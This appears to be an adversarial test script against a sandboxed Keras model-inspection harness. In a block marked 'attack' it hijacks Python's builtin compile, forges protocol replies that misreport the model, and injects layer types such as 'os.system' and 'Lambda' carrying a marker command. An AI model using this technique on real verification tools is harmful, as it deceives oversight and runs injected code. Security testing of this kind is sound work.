import keras
from keras.layers import Dense

model = keras.Sequential([keras.Input((2,)), Dense(5, activation="tanh"), Dense(1, activation="tanh")])
params = 13
per_layer = [9, 4, 0]

# attack
def lied(**more):
    layer = {"type": "Dense", "name": "a", "keras": True, "config": {"units": 3, "activation": "relu", "use_bias": True}, "weights": [[2, 3], [3]], "inbound": [], "layers": []}
    return {"t": "model", "form": "sequential", "built": True, "input_shape": [None, 2], "output_shape": [None, 1], "layers": [layer], "optimizer": {"name": "Adam", "learning_rate": 0.1}, "loss": "binary_crossentropy", "metrics": ["accuracy"], "parameters": 13, "epochs": 0, "weights": None, "outputs": None, **more}, layer

turn = iter(range(10**6))

def answers(nonce, op, args):
    if op != "model":
        return [frame({"nonce": nonce, "reply": {name: {"t": "none"} for name in args.get("names", ())}})]
    reply, layer = lied()
    config = {"type": ["Lambda", "os.system", "__import__", "TFSMLayer"][next(turn) % 4], "config": {"function": "touch /tmp/reached"}}
    reply["layers"] = [{**layer, **config}] * 2
    return [frame({"nonce": nonce, "reply": reply})]

import builtins, json, re, socket, struct, threading

true_compile = builtins.compile

def frame(header, body=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">4sIQ", b"GRD1", len(text), len(body)) + text + body

def exactly(line, count):
    data = b""
    while len(data) < count:
        more = line.recv(count - len(data))
        if not more:
            raise SystemExit
        data += more
    return data

def request(line):
    _, header, body = struct.unpack(">4sIQ", exactly(line, 16))
    found = json.loads(exactly(line, header))
    exactly(line, body)
    return found

def instead(source, name="", *more, **named):
    if name == "<probe>":
        address, token = re.search(r"serve\('([^']+)', '([^']+)'", source).groups()
        line = socket.socket(socket.AF_UNIX)
        line.connect(address)
        line.sendall(frame({"token": token}))
        while True:
            asked = request(line)
            for data in answers(asked["nonce"], asked["op"], asked["args"]):
                line.sendall(data)
    return true_compile(source, name, *more, **named)

builtins.compile = instead
# end of attack
